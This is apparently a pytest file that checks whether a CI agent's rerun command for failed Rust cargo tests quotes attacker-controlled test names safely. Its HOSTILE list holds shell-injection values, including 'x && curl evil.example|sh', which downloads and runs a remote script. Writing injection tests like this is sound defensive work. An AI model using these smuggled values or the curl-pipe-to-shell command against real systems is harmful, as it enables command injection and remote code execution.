"""Attacks on gen-tests' replay line for a Rust test: the command a person pastes to rerun a
failure. The test's file and name are the pull request's (a ``[[test]]`` target may sit at any
path), so a shell word in either must stay a word: the command runs cargo on that target, or on
the crate, and nothing else."""

from __future__ import annotations

import shlex

import pytest

from cicd_agent.actions.markdown import code_span
from cicd_agent.modes.gen_tests.runner_reruns import _replay
from cicd_agent.runners.base import TestReport
from cicd_agent.runners.cargo.runner import CargoTest

HOSTILE = ["a;touch pwned", "$(touch pwned)", "`touch pwned`", "a'b\"c", "a\ntouch pwned",
           "--config=build.rustc-wrapper=sh", "x && curl evil.example|sh"]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_attack_a_hostile_test_file_is_one_quoted_target(name: str) -> None:
    report = TestReport("cargo test", returncode=101)
    rerun = CargoTest().rerun_file
    said = _replay(report, f"tests/{name}.rs › {name}", ", TZ=Asia/Kolkata", rerun)
    assert shlex.split(said) == ["TZ=Asia/Kolkata", "cargo", "test", "--test", name], said
    shown = code_span(said, 4_000).strip("`").strip()  # as the summary prints it, on one line
    assert shlex.split(shown)[:4] == shlex.split(said)[:4], shown


@pytest.mark.parametrize("name", HOSTILE)
def test_attack_a_hostile_test_of_no_file_runs_the_crate(name: str) -> None:
    report = TestReport("cargo test", returncode=101)
    for test in (name, f"src/{name}.rs › {name}", f"cargo test › {name}", f"tests/a/{name}.rs"):
        said = _replay(report, test, "", CargoTest().rerun_file)
        assert shlex.split(said) == ["cargo", "test"], said
